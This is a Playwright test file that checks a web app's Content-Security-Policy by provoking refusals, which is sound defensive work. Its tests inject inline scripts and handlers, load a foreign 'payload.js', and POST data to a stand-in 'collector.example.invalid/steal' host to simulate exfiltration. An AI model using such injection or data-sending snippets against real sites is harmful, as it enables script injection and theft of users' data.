/**
 * The build's Content-Security-Policy, tried for real: each test makes the
 * page attempt what hostile content would (an inline or foreign script, an
 * inline handler, eval, a worker from a blob, a request to another origin, a
 * frame) and checks the browser refused it and reported the directive that
 * did. This spec uses Playwright's own `test`: the refusals are console
 * errors on purpose, so it checks the console itself (only refusals, nothing
 * else) instead of the shared "no console error" guard.
 */
import { test as base, type Page } from '@playwright/test';
import {
  expect,
  ORIGIN,
  openPlayground,
  recordConsoleErrors,
  recordForeignRequests,
  statusLine,
} from './helpers.ts';

/** A violation as the `securitypolicyviolation` event reports it. */
interface Violation {
  directive: string;
  blocked: string;
}

declare global {
  interface Window {
    /** Violations seen since `watchViolations`; set by this spec only. */
    cspViolations?: Violation[];
    /** Set by an injected script if it ever runs. */
    cspInjectedRan?: string[];
  }
}

/**
 * A request the policy blocks still shows as a request event (then fails
 * without reaching the network), so this spec's guard allows foreign
 * requests only when each one failed as blocked.
 */
const test = base.extend<{ guarded: { errors: string[] } }>({
  guarded: async ({ page }, use) => {
    const foreign = recordForeignRequests(page, ORIGIN);
    const failures = new Map<string, string>();
    page.on('requestfailed', (request) => {
      failures.set(request.url(), request.failure()?.errorText ?? '');
    });
    const guarded = { errors: recordConsoleErrors(page) };
    await use(guarded);
    for (const url of foreign) {
      expect(failures.get(url), `the request to ${url} was blocked`).toBe('csp');
    }
    for (const error of guarded.errors) {
      expect(error, 'only the refusals this spec provokes reach the console').toMatch(
        /Content Security Policy/,
      );
    }
  },
});

async function watchViolations(page: Page): Promise<void> {
  await page.evaluate(() => {
    window.cspViolations = [];
    window.cspInjectedRan = [];
    document.addEventListener('securitypolicyviolation', (event) => {
      window.cspViolations?.push({
        directive: event.effectiveDirective,
        blocked: event.blockedURI,
      });
    });
  });
}

/**
 * Waits until the page has reported exactly these violations ("directive
 * blocked-URI", in any order): the ones the test provoked, and none from the
 * app itself.
 */
async function expectViolations(page: Page, expected: string[]): Promise<void> {
  await expect
    .poll(() =>
      page.evaluate(() =>
        (window.cspViolations ?? []).map((v) => `${v.directive} ${v.blocked}`).sort(),
      ),
    )
    .toEqual([...expected].sort());
}

/** Parses the policy of the page's `<meta http-equiv>` into directive → sources. */
async function readPolicy(page: Page): Promise<Map<string, string[]>> {
  const content = await page
    .locator('meta[http-equiv="Content-Security-Policy"]')
    .getAttribute('content');
  const policy = new Map<string, string[]>();
  for (const directive of (content ?? '').split(';')) {
    const [name, ...sources] = directive.trim().split(/\s+/);
    if (name) policy.set(name, sources);
  }
  return policy;
}

test.beforeEach(async ({ page, guarded }) => {
  await openPlayground(page);
  // The app itself runs under the policy without a single refusal.
  expect(guarded.errors).toEqual([]);
  await watchViolations(page);
});

test('the policy allows scripts, workers and connections from the page’s own origin only', async ({
  page,
}) => {
  const policy = await readPolicy(page);
  expect(policy.get('default-src')).toEqual(["'self'"]);
  expect(policy.get('script-src')).toEqual(["'self'"]);
  expect(policy.get('worker-src')).toEqual(["'self'"]);
  expect(policy.get('connect-src')).toEqual(["'self'"]);
  expect(policy.get('object-src')).toEqual(["'none'"]);
  expect(policy.get('base-uri')).toEqual(["'none'"]);
  expect(policy.get('form-action')).toEqual(["'none'"]);
  // Images and fonts also from data: URLs (Monaco's icons); no other origin.
  expect(policy.get('img-src')).toEqual(["'self'", 'data:']);
  expect(policy.get('font-src')).toEqual(["'self'", 'data:']);
  // Monaco sets inline styles; that is the one relaxation.
  expect(policy.get('style-src')).toEqual(["'self'", "'unsafe-inline'"]);
  // Frames fall back to default-src: none from elsewhere.
  expect(policy.has('frame-src')).toBe(false);
  // The app itself runs under it: results came from the worker.
  await expect(statusLine(page)).toHaveText(/^Saved/);
});

test('an injected inline script, inline handler or foreign script does not run', async ({
  page,
}) => {
  await page.evaluate(() => {
    const inline = document.createElement('script');
    inline.textContent = "window.cspInjectedRan.push('inline script')";
    document.body.append(inline);

    const handler = document.createElement('img');
    handler.setAttribute('onerror', "window.cspInjectedRan.push('inline handler')");
    handler.src = 'data:,not-an-image';
    document.body.append(handler);

    const foreign = document.createElement('script');
    foreign.src = 'https://cdn.example.invalid/payload.js';
    document.body.append(foreign);
  });
  await expectViolations(page, [
    'script-src-elem inline',
    'script-src-attr inline',
    'script-src-elem https://cdn.example.invalid/payload.js',
  ]);
  expect(await page.evaluate(() => window.cspInjectedRan)).toEqual([]);
});

test('eval and new Function are refused', async ({ page }) => {
  // From a task of the page's own: code that DevTools calls directly is exempt.
  const outcomes = await page.evaluate(
    () =>
      new Promise<Record<string, string>>((resolve) => {
        const attempt = (run: () => unknown) => {
          try {
            run();
            return 'ran';
          } catch (error) {
            return error instanceof Error ? error.name : String(error);
          }
        };
        setTimeout(() => {
          resolve({
            // biome-ignore lint/security/noGlobalEval: the point is that the page refuses it.
            eval: attempt(() => eval('1 + 1')),
            function: attempt(() => new Function('return 1')()),
          });
        }, 0);
      }),
  );
  expect(outcomes).toEqual({ eval: 'EvalError', function: 'EvalError' });
  await expectViolations(page, ['script-src eval', 'script-src eval']);
});

test('a worker from a blob, a request to another origin and a foreign frame are refused', async ({
  page,
}) => {
  const outcomes = await page.evaluate(async () => {
    const url = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
    const worker = await new Promise<string>((resolve) => {
      const blobWorker = new Worker(url);
      blobWorker.onmessage = () => resolve('ran');
      blobWorker.onerror = () => resolve('refused');
    });
    let request = 'answered';
    try {
      await fetch('https://collector.example.invalid/steal', { method: 'POST', body: 'x' });
    } catch (error) {
      request = error instanceof Error ? error.name : String(error);
    }
    const frame = document.createElement('iframe');
    frame.src = 'https://frame.example.invalid/';
    document.body.append(frame);
    return { worker, request };
  });
  expect(outcomes).toEqual({ worker: 'refused', request: 'TypeError' });
  await expectViolations(page, [
    'worker-src blob',
    'connect-src https://collector.example.invalid/steal',
    'frame-src https://frame.example.invalid',
  ]);
});
